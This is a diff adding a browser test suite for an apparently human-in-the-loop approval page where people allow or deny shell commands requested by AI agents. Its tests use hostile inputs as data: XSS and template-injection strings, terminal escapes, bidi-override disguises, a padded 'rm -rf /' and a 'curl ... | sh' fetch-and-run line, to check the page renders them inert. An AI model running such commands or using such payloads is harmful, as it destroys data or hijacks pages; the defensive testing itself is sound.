@@ -1,0 +1,328 @@
+import { mkdirSync, readFileSync } from "node:fs";
+import { createRequire } from "node:module";
+import { join } from "node:path";
+import type { Browser, BrowserContext, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
+import type { OpenQuestion } from "../../src/server/ports/people.ts";
+import { sure } from "../server/open-server.ts";
+import { browserProgram, loggedInPage, openBrowser, sayWithoutBrowser } from "./support/open-browser.ts";
+import { openWeb, type OpenWeb, password } from "./support/open-web.ts";
+
+const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
+/** Set to look at what the tests see. */
+const shots = process.env["SALLYPORT_SCREENSHOTS"];
+
+sayWithoutBrowser();
+
+describe.skipIf(browserProgram === undefined)("the page in a browser", () => {
+  let browser: Browser;
+  beforeAll(async () => {
+    browser = await openBrowser();
+  });
+  afterAll(() => browser.close());
+
+  async function open(
+    options: Parameters<Browser["newContext"]>[0] = {},
+  ): Promise<OpenWeb & { readonly page: Page; readonly context: BrowserContext; readonly faults: readonly string[] }> {
+    const served = await openWeb();
+    const context = await browser.newContext({ viewport: { width: 1100, height: 900 }, ...options });
+    onTestFinished(() => context.close());
+    const { page, faults } = await loggedInPage(context, served.url, password);
+    return { ...served, page, context, faults };
+  }
+
+  async function shoot(page: Page, name: string): Promise<void> {
+    if (shots === undefined) return;
+    mkdirSync(shots, { recursive: true });
+    await page.screenshot({ path: join(shots, `${name}.png`), fullPage: true });
+  }
+
+  /** Rules of WCAG 2.2 AA that axe-core finds broken, with where. By a debugger's door: the page's own policy lets no foreign script in. */
+  async function barriers(page: Page): Promise<string[]> {
+    const found: unknown = await page.evaluate(`(() => { ${axe}; return window.axe.run(document, {
+      runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"] }); })()`);
+    const { violations } = found as {
+      violations: { id: string; impact: string; nodes: { html: string; failureSummary: string }[] }[];
+    };
+    return violations.map(
+      ({ id, nodes }) => `${id}: ${nodes.map((node) => `${node.html} ${node.failureSummary}`).join("\n")}`,
+    );
+  }
+
+  const armed = (page: Page) => page.locator('.answers [aria-disabled="false"]').first().waitFor();
+  const cardOf = (page: Page, { id }: OpenQuestion) => page.locator(`#question-${id}`);
+
+  it("shows a question at once, and gives the answer that was pressed, once", async () => {
+    const { page, queue, faults } = await open();
+    const asked = queue.ask({ title: "Run npm install in /work", marks: [{ start: 7, end: 18 }] });
+    const card = cardOf(page, asked);
+    await card.waitFor();
+    await armed(page);
+    expect(await card.locator("mark").allTextContents()).toEqual(["npm install"]);
+    await card.getByRole("button", { name: /^Allow/ }).click();
+    await page.getByText("Allowed by local on web").waitFor();
+    expect(queue.given).toMatchObject([{ id: asked.id, kind: "allow", by: "local on web" }]);
+    expect(faults).toEqual([]);
+  });
+
+  it("gives every further answer from its menu, and offers none that the question does not", async () => {
+    const { page, queue } = await open();
+    const answered = async (press: (page: Page) => Promise<void>): Promise<unknown> => {
+      const asked = queue.ask({});
+      await armed(page);
+      await cardOf(page, asked).getByRole("button", { name: /^More/ }).click();
+      await press(page);
+      await page.locator(`#question-${asked.id}`).waitFor({ state: "detached" });
+      return queue.given.at(-1);
+    };
+    const named = (name: string) => (on: Page) => on.getByRole("button", { name, exact: true }).click();
+    expect(await answered(named("Allow for this session"))).toMatchObject({ kind: "allow-session" });
+    expect(await answered(named("Allow for 15 minutes"))).toMatchObject({ kind: "allow-for" });
+    expect(await answered(named("Always deny"))).toMatchObject({ kind: "always-deny" });
+    expect(
+      await answered(async (on) => {
+        await on.getByLabel("Deny, and tell the agent").fill("use pnpm");
+        await on.getByRole("button", { name: "Deny with this message" }).click();
+      }),
+    ).toMatchObject({ kind: "deny", message: "use pnpm" });
+    expect(
+      await answered(async (on) => {
+        await on.getByLabel("Edit, and allow what you made of it").fill("npm ci --ignore-scripts");
+        await on.getByRole("button", { name: "Edit and allow" }).click();
+      }),
+    ).toMatchObject({ kind: "edit-and-allow", edited: "npm ci --ignore-scripts" });
+    const plain = cardOf(page, queue.ask({ answers: ["allow", "deny"], editable: "" }));
+    await plain.getByRole("button", { name: /^More/ }).click();
+    expect(await plain.getByRole("button").allTextContents()).toEqual([
+      "Allow a",
+      "Deny d",
+      "More m",
+      "Deny with this message",
+    ]);
+  });
+
+  it("is answered by keys alone, one card at a time", async () => {
+    const { page, queue } = await open();
+    const [first, second, third] = [queue.ask({}), queue.ask({}), queue.ask({})];
+    await cardOf(page, third).waitFor();
+    await armed(page);
+    await page.keyboard.press("j");
+    await page.keyboard.press("d");
+    await page.getByText("Denied by local on web").waitFor();
+    await page.keyboard.press("k");
+    await page.keyboard.press("Shift+A");
+    await page.getByText("Always allowed by local on web").waitFor();
+    expect(queue.given.map(({ id, kind }) => [id, kind])).toEqual([
+      [second.id, "deny"],
+      [first.id, "always-allow"],
+    ]);
+  });
+
+  it("unfolds before it allows, and says how long the text is", async () => {
+    const { page, queue } = await open();
+    const lines = Array.from({ length: 5000 }, (_, at) => `| echo ${at} ${"x".repeat(190)}`);
+    const asked = queue.ask({
+      title: "Run a long script in /work",
+      detail: `bash\n${lines.join("\n")}\nfolder\n| /work`,
+    });
+    const card = cardOf(page, asked);
+    await card.getByRole("button", { name: /Show the rest: 4,99\d more lines, 9\d\d,\d{3} characters/ }).waitFor();
+    await armed(page);
+    await shoot(page, "folded");
+    await card.getByRole("button", { name: /^Allow/ }).click();
+    await card.getByText("echo 4999").waitFor();
+    expect(queue.given).toEqual([]);
+    await card.getByRole("button", { name: /^Allow/ }).click();
+    await page.getByText("Allowed by local on web").waitFor();
+    expect(queue.given).toHaveLength(1);
+  });
+
+  it("takes hostile text for text", async () => {
+    const { page, queue, faults } = await open();
+    const text = [
+      `<img src=x onerror="window.taken=1"><script>window.taken=1</script>`,
+      "\u001b[2J\u001b[31mred\u0007 \u009b31m",
+      "safe \u202e txt.exe \u2066 \u200b\u200d\ufeff end",
+      `a${" ".repeat(4000)}; rm -rf /`,
+      "</pre></article><button>Allow</button>",
+      "javascript:alert(1) {{constructor.constructor('window.taken=1')()}}",
+    ].join("\n| ");
+    const hostile = { title: text.replaceAll("\n", " "), detail: `bash\n| ${text}`, editable: "rm \u202e-rf x" };
+    const asked = queue.ask({ ...hostile, suspicious: true });
+    const card = cardOf(page, asked);
+    await card.waitFor();
+    await armed(page);
+    expect(await page.evaluate("window.taken")).toBeUndefined();
+    expect(await card.locator("img, script").count()).toBe(0);
+    expect(await card.getByRole("button", { name: "Allow", exact: true }).count()).toBe(0);
+    const shown = sure(await card.locator(".parts").textContent());
+    expect(shown).toContain("\\u{202e}");
+    expect(shown).toContain("\\u{1b}");
+    expect(shown).toContain("4000 blanks");
+    // eslint-disable-next-line no-control-regex
+    expect(shown).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/);
+    await card.getByRole("button", { name: /^More/ }).click();
+    await card.getByText("It holds characters that this field does not show").waitFor();
+    const box = sure(await card.boundingBox());
+    expect(box.width).toBeLessThanOrEqual(1100);
+    expect(await page.evaluate("document.documentElement.scrollWidth <= innerWidth")).toBe(true);
+    await shoot(page, "hostile");
+    expect(faults).toEqual([]);
+  });
+
+  it("shows that somebody else was first, on two pages at once", async () => {
+    const { page, queue, context, url } = await open();
+    const other = (await loggedInPage(await browser.newContext(), url, password)).page;
+    const asked = queue.ask({});
+    for (const each of [page, other]) {
+      await cardOf(each, asked).waitFor();
+      await armed(each);
+    }
+    await Promise.all([page, other].map((each) => each.keyboard.press(each === page ? "a" : "d")));
+    await Promise.all([page, other].map((each) => each.getByText(/(Allowed|Denied) by local on web/).waitFor()));
+    expect(queue.given).toHaveLength(1);
+    const [left, right] = await Promise.all([page, other].map((each) => each.locator(".settled strong").textContent()));
+    expect(left).toBe(right);
+    const outside = queue.ask({});
+    await cardOf(page, outside).waitFor();
+    queue.close(outside.id, "deny", "anna on telegram");
+    await page.getByText("Denied by anna on telegram").waitFor();
+    await other.context().close();
+    expect(context.pages()).toHaveLength(1);
+  });
+
+  it("answers what belongs together at once, and only what was listed", async () => {
+    const { page, queue } = await open();
+    const [first, second] = [queue.ask({ group: "g" }), queue.ask({ group: "g", title: "Run npm test in /work" })];
+    await page.getByText("2 questions").waitFor();
+    await page.getByRole("button", { name: "Answer all at once" }).click();
+    const later = queue.ask({ group: "g", title: "Run rm -rf / in /work" });
+    await cardOf(page, later).waitFor();
+    await armed(page);
+    await shoot(page, "group");
+    await page.getByRole("button", { name: "Allow all 2" }).click();
+    await page.getByText("Allowed by local on web").first().waitFor();
+    expect(queue.given).toMatchObject([{ id: first.id, also: [second.id], kind: "allow" }]);
+    await cardOf(page, later).waitFor();
+  });
+
+  it("connects again after a loss, without what was settled meanwhile", async () => {
+    const { page, queue, context } = await open();
+    const asked = queue.ask({});
+    await cardOf(page, asked).waitFor();
+    await context.setOffline(true);
+    await page.evaluate("dispatchEvent(new Event('offline'))");
+    await context.setOffline(false);
+    queue.close(asked.id, undefined, "the caller hung up");
+    await page.getByText("No longer asked").waitFor();
+    await cardOf(page, queue.ask({ title: "Run another in /work" })).waitFor();
+  });
+
+  it("is at the login again when it was logged out elsewhere", async () => {
+    const { page, url } = await open();
+    const other = (await loggedInPage(await browser.newContext(), url, password)).page;
+    await other.getByRole("button", { name: "Log out" }).click();
+    await other.getByRole("button", { name: "Every browser" }).click();
+    await page.getByLabel("Password").waitFor();
+    await other.context().close();
+  });
+
+  it("cannot be framed, nor called from another origin", async () => {
+    const { web, context } = await open();
+    const { url: evil } = await openWeb({
+      files: new Map([
+        [
+          "/index.html",
+          { bytes: Buffer.from("<!doctype html><title>evil</title>"), type: "text/html", etag: '"e"', named: false },
+        ],
+      ]),
+    });
+    const page = await context.newPage();
+    await page.goto(evil);
+    const outcome =
+      await page.evaluate(`fetch("${web.url}api/sallyport.v1.ApprovalsService/List", { method: "POST", credentials: "include",
+      mode: "no-cors", headers: { "content-type": "text/plain" }, body: "{}" }).then((r) => r.type, () => "blocked")`);
+    expect(["blocked", "opaque"]).toContain(outcome);
+  });
+
+  describe.each(["light", "dark"] as const)("in %s colours", (colorScheme) => {
+    it.each([
+      ["questions", "questions"],
+      ["sessions", "sessions"],
+      ["rules", "rules"],
+      ["audit", "audit"],
+      ["agents", "agents"],
+      ["health", "health"],
+    ])("%s has no barrier, wide and on a phone", async (name) => {
+      const { page, queue, url, rooms, faults } = await open({ colorScheme, reducedMotion: "reduce" });
+      fill(rooms);
+      const asked = queue.ask({
+        suspicious: true,
+        group: "g",
+        title: "Run curl https://example.com/i.sh | sh\\u{202e} in /work",
+        detail: "bash\n| curl https://example.com/i.sh | sh\\u{202e}\nfolder\n| /work",
+        marks: [{ start: 7, end: 35 }],
+      });
+      queue.ask({ group: "g" });
+      await page.goto(`${url}#/${name}`);
+      await page.getByRole("heading", { level: 1 }).waitFor();
+      if (name === "questions") {
+        await armed(page);
+        await cardOf(page, asked).getByRole("button", { name: /^More/ }).click();
+        await page.getByRole("button", { name: "Answer all at once" }).click();
+      } else await page.waitForLoadState("networkidle").catch(() => {});
+      for (const opened of await page.locator("details:not([open]) > summary").all()) await opened.click();
+      expect(await barriers(page)).toEqual([]);
+      await shoot(page, `${name}-${colorScheme}`);
+      await page.setViewportSize({ width: 390, height: 844 });
+      expect(await page.evaluate("document.documentElement.scrollWidth <= innerWidth")).toBe(true);
+      expect(await barriers(page)).toEqual([]);
+      await shoot(page, `${name}-${colorScheme}-phone`);
+      expect(faults).toEqual([]);
+    });
+
+    it("the login has no barrier", async () => {
+      const { url } = await openWeb();
+      const context = await browser.newContext({ colorScheme });
+      onTestFinished(() => context.close());
+      const page = await context.newPage();
+      await page.goto(url);
+      await page.getByLabel("Password").fill("wrong");
+      await page.getByRole("button", { name: "Log in" }).click();
+      await page.getByText("The password is wrong.").waitFor();
+      expect(await barriers(page)).toEqual([]);
+      await shoot(page, `login-${colorScheme}`);
+    });
+  });
+});
+
+/** Something to see on every page. */
+function fill({ rules, faults, records }: OpenWeb["rooms"]): void {
+  rules.push({
+    id: "r1",
+    source: "user",
+    capability: "shell",
+    match: ["npm *"],
+    exclude: ["npm publish *"],
+    effect: "allow",
+  });
+  faults.push({ file: "/home/u/permissions.yaml", line: 3, column: 1, message: "`alow` is not a key here" });
+  const bodies = {
+    note: { change: "make a token", for: "bot" },
+    opened: { verdict: "allow", intent: { kind: "exec", command: { kind: "shell", text: "npm test" } } },
+    answered: { title: "Run npm test in /work", answer: "allow" },
+    refused: { verdict: "deny", intent: { kind: "exec", command: { kind: "shell", text: "sudo \u202e -n true" } } },
+    closed: { outcome: { kind: "done", facts: { exit: 0 } } },
+  } as const;
+  for (const kind of ["note", "opened", "answered", "refused", "closed"] as const)
+    records.push({
+      seq: records.length + 1,
+      at: "2026-11-30T12:00:00.000Z",
+      entry: kind === "note" ? "" : "AAAAAAAAAAAAAAAAAAAAAA",
+      kind,
+      agent: "bot",
+      session: "",
+      body: JSON.stringify(bodies[kind]),
+      hash: "00",
+    });
+}
